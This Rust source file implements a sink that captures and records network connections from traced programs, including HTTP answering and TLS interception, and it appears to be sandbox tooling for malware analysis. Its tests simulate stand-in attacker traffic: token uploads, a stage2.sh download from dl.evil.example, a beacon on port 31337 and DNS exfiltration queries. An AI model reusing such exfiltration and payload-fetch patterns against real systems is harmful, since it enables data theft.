//! The generic TCP sink: accepts a connection on any sink port (the world
//! port every rerouted connection reaches, or a fixed port on loopback),
//! reads the first bytes the client sends before it expects an answer, and
//! records them as a [`Received`], with what the HTTP and TLS parsers make
//! of them.
//!
//! HTTP is answered `200` with a plausible body ([`http_answer`]); TLS is
//! terminated with the run's CA and the request inside answered the same
//! way; DNS (port 53) goes to the DNS sink; everything else is recorded
//! and closed. The reading helpers ([`prepare`], [`fill`]) also serve DNS
//! over TCP.

use std::io::{self, ErrorKind, Read, Write};
use std::net::{IpAddr, Ipv4Addr, Ipv6Addr, Shutdown, SocketAddr, TcpListener, TcpStream};
use std::time::{Duration, Instant};

use std::sync::Arc;

use super::answer::http_answer;
use super::http::{http_request_complete, parse_http, request_url};
use super::mitm::{self, Accepted, RunCa};
use super::received::{Received, MAX_KEPT};
use super::tls::{tls_handshake, tls_sni};
use super::{is_timeout, Shared, POLL};

/// A client that sends nothing for this long has said all it will say
/// before it gets an answer.
pub(super) const IDLE_LIMIT: Duration = Duration::from_secs(2);
/// Upper bound for one read phase, against clients that drip a byte just
/// before every idle timeout.
const READ_DEADLINE: Duration = Duration::from_secs(10);
/// A client that does not read its response must not hold a thread.
const WRITE_TIMEOUT: Duration = Duration::from_secs(1);
/// How long an HTTP connection is drained after the response (see
/// [`drain`]).
const DRAIN_LIMIT: Duration = Duration::from_millis(500);
/// Bytes read from a TCP sink connection before it is classified.
const MAX_FIRST_BYTES: usize = 4096;
/// Bytes of an HTTP request (head and body) read before it is answered.
const MAX_REQUEST: usize = 64 * 1024;

/// Listeners for one sink port and the port they got.
///
/// `[::]` is bound first: where `net.ipv6.bindv6only` is 0 (the Linux
/// default) that socket also takes IPv4, and binding `0.0.0.0` afterwards
/// fails with `AddrInUse`, which is then expected. Binding `0.0.0.0` first
/// would make `[::]` fail instead and leave `::1` unserved, and std cannot
/// set `IPV6_V6ONLY` to avoid the conflict. Without IPv6 only `0.0.0.0` is
/// bound.
pub(super) fn bind_sink(port: u16) -> io::Result<(u16, Vec<TcpListener>)> {
    let v6 = TcpListener::bind((Ipv6Addr::UNSPECIFIED, port));
    let port = match &v6 {
        Ok(listener) => listener.local_addr()?.port(),
        Err(_) => port,
    };
    let v4 = TcpListener::bind((Ipv4Addr::UNSPECIFIED, port));
    match (v6, v4) {
        (Ok(a), Ok(b)) => Ok((port, vec![a, b])),
        (Ok(a), Err(e)) if e.kind() == ErrorKind::AddrInUse => Ok((port, vec![a])),
        (_, Ok(b)) => Ok((port, vec![b])),
        (_, Err(e)) => Err(e),
    }
}

/// Accepted sockets may inherit the listener's non-blocking mode on some
/// systems; the handlers rely on blocking reads with a timeout.
pub(super) fn prepare(stream: &TcpStream) -> io::Result<()> {
    stream.set_nonblocking(false)?;
    stream.set_read_timeout(Some(POLL))?;
    stream.set_write_timeout(Some(WRITE_TIMEOUT))
}

/// Why [`fill`] returned.
#[derive(Debug, PartialEq, Eq)]
pub(super) enum Fill {
    /// `complete` said yes or `cap` bytes arrived.
    Ready,
    /// Idle, too slow, or stopping.
    TimedOut,
    /// End of stream or a socket error.
    Closed,
}

/// Reads into `buf` until `complete(buf)`, `cap` bytes, end of stream,
/// [`IDLE_LIMIT`] without data, [`READ_DEADLINE`], or the stop flag.
///
/// The read comes before the checks so that bytes already waiting are
/// collected even when the sinks are stopping.
pub(super) fn fill(
    stream: &mut impl Read,
    buf: &mut Vec<u8>,
    cap: usize,
    shared: &Shared,
    complete: impl Fn(&[u8]) -> bool,
) -> Fill {
    let start = Instant::now();
    let mut last_data = start;
    let mut chunk = [0u8; 4096];
    loop {
        if buf.len() >= cap || complete(buf) {
            return Fill::Ready;
        }
        let stopping = shared.stopping();
        let want = (cap - buf.len()).min(chunk.len());
        match stream.read(&mut chunk[..want]) {
            Ok(0) => return Fill::Closed,
            Ok(n) => {
                buf.extend_from_slice(&chunk[..n]);
                last_data = Instant::now();
                continue;
            }
            Err(e) if is_timeout(&e) => {}
            Err(_) => return Fill::Closed,
        }
        if stopping || last_data.elapsed() >= IDLE_LIMIT || start.elapsed() >= READ_DEADLINE {
            return Fill::TimedOut;
        }
    }
}

/// Serves one connection to a TCP sink: finds where it was going (the
/// route of the address it reached), reads what the client sends before it
/// expects an answer, terminates TLS when the run has a CA, answers HTTP
/// (and HTTPS) plausibly, and records it all as one [`Received`].
pub(super) fn serve_sink(mut stream: TcpStream, shared: &Shared, seq: u64) {
    let mut record = unread(&stream, shared);
    if record.dest.port() == 53 {
        // DNS over TCP to any resolver: answered like the DNS sink.
        return super::dns::serve_dns_tcp(stream, Some(record.dest), shared);
    }
    let mut buf = Vec::new();
    if prepare(&stream).is_ok() {
        fill(&mut stream, &mut buf, MAX_FIRST_BYTES, shared, request_complete);
    }
    match (tls_handshake(&buf).is_some(), &shared.ca) {
        (true, Some(ca)) => {
            let ca = Arc::clone(ca);
            serve_tls(stream, buf, &ca, shared, seq, record);
        }
        (true, None) => {
            record.protocol = "tls";
            record.host = record.host.or_else(|| tls_sni(&buf));
            keep(&mut record, &buf);
            shared.record_received(seq, record);
        }
        (false, _) => match parse_http(&buf) {
            Some(_) => {
                fill(&mut stream, &mut buf, MAX_REQUEST, shared, |b| http_request_complete(b, MAX_REQUEST));
                let answer = describe_http(&mut record, "http", &buf);
                shared.record_received(seq, record);
                if stream.write_all(&answer).is_ok() {
                    let _ = stream.shutdown(Shutdown::Write);
                    drain(&mut stream, shared);
                }
            }
            // Anything else: recorded, not answered (closed by the drop).
            None => {
                keep(&mut record, &buf);
                shared.record_received(seq, record);
            }
        },
    }
}

/// TLS terminated with the run's CA: the request inside, answered like
/// plain HTTP. A client that does not trust the CA (it pins its own) ends
/// the handshake; its server name is still recorded.
fn serve_tls(stream: TcpStream, hello: Vec<u8>, ca: &RunCa, shared: &Shared, seq: u64, mut record: Received) {
    let sni = tls_sni(&hello);
    let deadline = Instant::now() + READ_DEADLINE;
    match mitm::accept(stream, hello.clone(), ca, record.dest.ip(), deadline, &|| shared.stopping()) {
        Accepted::Tls(mut tls) => {
            record.host = record.host.or_else(|| tls.sni()).or(sni);
            let mut buf = Vec::new();
            fill(&mut tls, &mut buf, MAX_REQUEST, shared, |b| {
                if parse_http(b).is_some() {
                    http_request_complete(b, MAX_REQUEST)
                } else {
                    request_complete(b)
                }
            });
            if parse_http(&buf).is_some() {
                let answer = describe_http(&mut record, "https", &buf);
                shared.record_received(seq, record);
                if tls.write_all(&answer).is_ok() {
                    let _ = tls.flush();
                    tls.finish();
                }
            } else {
                record.protocol = "tls";
                keep(&mut record, &buf);
                shared.record_received(seq, record);
            }
        }
        Accepted::Failed { sni: failed_sni, error } => {
            tracing::debug!(%error, "TLS handshake with the sink failed");
            record.protocol = "tls";
            record.host = record.host.or(failed_sni).or(sni);
            keep(&mut record, &hello);
            shared.record_received(seq, record);
        }
    }
}

/// Fills in an HTTP request's method, URL and bytes; returns the answer.
fn describe_http(record: &mut Received, scheme: &'static str, buf: &[u8]) -> Vec<u8> {
    record.protocol = scheme;
    keep(record, buf);
    let Some(req) = parse_http(buf) else { return Vec::new() };
    let fallback = record.host.clone().unwrap_or_else(|| match record.dest.ip() {
        IpAddr::V6(ip) => format!("[{ip}]"),
        ip => ip.to_string(),
    });
    record.url = Some(request_url(scheme, &req, &fallback, record.dest.port()));
    record.host = record.host.take().or_else(|| req.host.as_deref().map(host_without_port));
    record.method = Some(req.method.clone());
    http_answer(&req.method, &req.target)
}

/// `example.com:8080` → `example.com`, `[2001:db8::1]:80` → `2001:db8::1`.
fn host_without_port(host: &str) -> String {
    if let Some(rest) = host.strip_prefix('[') {
        return rest.split(']').next().unwrap_or(rest).to_string();
    }
    match host.rsplit_once(':') {
        Some((name, port)) if !name.contains(':') && port.bytes().all(|b| b.is_ascii_digit()) => name.to_string(),
        _ => host.to_string(),
    }
}

fn keep(record: &mut Received, buf: &[u8]) {
    record.data = buf[..buf.len().min(MAX_KEPT)].to_vec();
    record.size = buf.len() as u64;
}

/// Where a connection was going and who made it: its route when the tracer
/// rerouted it, else the address it reached (a sink port on loopback).
fn destination(stream: &TcpStream, shared: &Shared) -> (SocketAddr, Option<i32>) {
    let local = stream.local_addr().ok();
    let route = local.and_then(|a| shared.route(a.ip()));
    match (route, local) {
        (Some(r), _) => (r.dest, Some(r.pid)),
        // A dual-stack listener reports IPv4 clients as ::ffff:a.b.c.d.
        (None, Some(a)) => (SocketAddr::new(a.ip().to_canonical(), a.port()), None),
        (None, None) => (SocketAddr::from((Ipv4Addr::UNSPECIFIED, 0)), None),
    }
}

/// The record of a connection before anything is read from it (also what
/// is recorded of one closed unread, when too many are open at once).
pub(super) fn unread(stream: &TcpStream, shared: &Shared) -> Received {
    let (dest, pid) = destination(stream, shared);
    Received {
        transport: "tcp",
        protocol: "raw",
        dest,
        pid,
        host: shared.name_for(dest.ip()),
        method: None,
        url: None,
        data: Vec::new(),
        size: 0,
    }
}

/// Reads and discards until the client closes, briefly. Closing a socket
/// with unread data (a request body) sends a reset, which can make the
/// client lose the response it has not read yet.
fn drain(stream: &mut TcpStream, shared: &Shared) {
    let start = Instant::now();
    let mut scratch = [0u8; 4096];
    while start.elapsed() < DRAIN_LIMIT {
        let stopping = shared.stopping();
        match stream.read(&mut scratch) {
            Ok(0) => return,
            Ok(_) => {}
            Err(e) if is_timeout(&e) => {}
            Err(_) => return,
        }
        if stopping {
            return;
        }
    }
}

/// Has the client sent all it will send before it expects an answer?
pub(super) fn request_complete(buf: &[u8]) -> bool {
    if let Some((_, complete)) = tls_handshake(buf) {
        return complete;
    }
    parse_http(buf).is_some() && (find(buf, b"\r\n\r\n").is_some() || find(buf, b"\n\n").is_some())
}

fn find(haystack: &[u8], needle: &[u8]) -> Option<usize> {
    haystack.windows(needle.len()).position(|w| w == needle)
}

#[cfg(test)]
mod tests {
    use std::io::{Read, Write};
    use std::net::{SocketAddrV4, UdpSocket};

    use super::super::sinkhole::sinkhole;
    use super::super::testutil::{connect, localhost, query, stop_checked, udp_exchange};
    use super::super::{Sinks, World};
    use super::*;

    fn world() -> Sinks {
        Sinks::start("127.0.0.1:0".parse().unwrap(), &[0], Some(World::default())).unwrap()
    }

    fn route(sinks: &Sinks, pid: i32, dest: &str) -> SocketAddrV4 {
        sinks.routes().unwrap().route(pid, dest.parse().unwrap()).unwrap()
    }

    fn exchange(to: SocketAddr, request: &[u8]) -> Vec<u8> {
        let mut stream = connect(to.ip(), to.port());
        stream.write_all(request).unwrap();
        let mut response = Vec::new();
        stream.read_to_end(&mut response).unwrap();
        response
    }

    #[test]
    fn http_is_answered_and_recorded_with_where_it_was_going() {
        let sinks = world();
        // Straight to a sink port on loopback: no route, the address reached.
        let port = sinks.tcp_local_ports()[0];
        let response = exchange(SocketAddr::new(localhost(), port), b"GET /x HTTP/1.1\r\nHost: evil.example\r\n\r\n");
        assert!(response.starts_with(b"HTTP/1.1 200 OK\r\n"), "{}", String::from_utf8_lossy(&response));
        // A bare IP and an odd port, rerouted by the tracer (here: by hand).
        let via = route(&sinks, 7, "203.0.113.9:8080");
        let body = b"POST /upload HTTP/1.1\r\nHost: 203.0.113.9:8080\r\nContent-Length: 9\r\n\r\ntoken=abc";
        assert!(exchange(SocketAddr::V4(via), body).starts_with(b"HTTP/1.1 200 OK\r\n"));
        // A name the DNS sink handed out: the record is named.
        udp_exchange(sinks.dns_local_addr(), &query(3, "dl.evil.example", 1));
        let via = route(&sinks, 8, &format!("{}:80", sinkhole("dl.evil.example")));
        let response = exchange(SocketAddr::V4(via), b"GET /stage2.sh HTTP/1.1\r\nHost: dl.evil.example\r\n\r\n");
        let text = String::from_utf8_lossy(&response);
        assert!(text.contains("\r\n\r\n#!/bin/sh"), "a download gets a script: {text}");

        let log = stop_checked(sinks);
        let got: Vec<_> = log
            .received
            .iter()
            .map(|r| (r.protocol, r.dest.to_string(), r.pid, r.host.as_deref(), r.method.as_deref(), r.url.as_deref()))
            .collect();
        let dl = format!("{}:80", sinkhole("dl.evil.example"));
        assert_eq!(
            got,
            [
                (
                    "http",
                    format!("127.0.0.1:{port}"),
                    None,
                    Some("evil.example"),
                    Some("GET"),
                    Some("http://evil.example/x")
                ),
                (
                    "http",
                    "203.0.113.9:8080".to_string(),
                    Some(7),
                    Some("203.0.113.9"),
                    Some("POST"),
                    Some("http://203.0.113.9:8080/upload")
                ),
                ("http", dl, Some(8), Some("dl.evil.example"), Some("GET"), Some("http://dl.evil.example/stage2.sh")),
            ]
        );
        assert!(log.received[1].data.ends_with(b"\r\n\r\ntoken=abc"), "the body is read before the answer");
    }

    #[test]
    fn other_ports_record_the_first_bytes_and_answer_nothing() {
        let sinks = world();
        let via = route(&sinks, 5, "[2001:db8::44]:31337");
        let response = exchange(SocketAddr::V4(via), b"BEACON host user\n");
        assert!(response.is_empty());
        let log = stop_checked(sinks);
        assert_eq!(log.received.len(), 1);
        let r = &log.received[0];
        assert_eq!((r.protocol, r.dest.to_string(), r.pid), ("raw", "[2001:db8::44]:31337".to_string(), Some(5)));
        assert_eq!(r.data, b"BEACON host user\n");
    }

    #[test]
    fn datagrams_are_recorded_and_dns_to_any_resolver_is_answered_from_its_address() {
        let sinks = world();
        // A connected socket (glibc, c-ares) only takes a reply from the
        // address it sent to: the sink answers from the routed address.
        let via = route(&sinks, 9, "8.8.8.8:53");
        let socket = UdpSocket::bind("127.0.0.1:0").unwrap();
        socket.connect(via).unwrap();
        socket.set_read_timeout(Some(std::time::Duration::from_secs(3))).unwrap();
        socket.send(&query(0x77, "exfil.example", 1)).unwrap();
        let mut buf = [0u8; 512];
        let n = socket.recv(&mut buf).expect("a reply from the address the query went to");
        assert_eq!(&buf[..2], &[0, 0x77]);
        assert!(n > 12);
        let raw = route(&sinks, 9, "203.0.113.53:9999");
        socket.send_to(b"dG9rZW4=", raw).unwrap();
        let log = stop_checked(sinks);
        let got: Vec<_> = log.received.iter().map(|r| (r.transport, r.protocol, r.dest.to_string(), r.pid)).collect();
        assert_eq!(
            got,
            [
                ("udp", "dns", "8.8.8.8:53".to_string(), Some(9)),
                ("udp", "raw", "203.0.113.53:9999".to_string(), Some(9))
            ]
        );
        assert_eq!(log.received[0].host.as_deref(), Some("exfil.example"));
        assert_eq!(log.received[1].data, b"dG9rZW4=");
        assert_eq!(log.log.dns[0].server.as_deref(), Some("8.8.8.8:53"));
    }
}
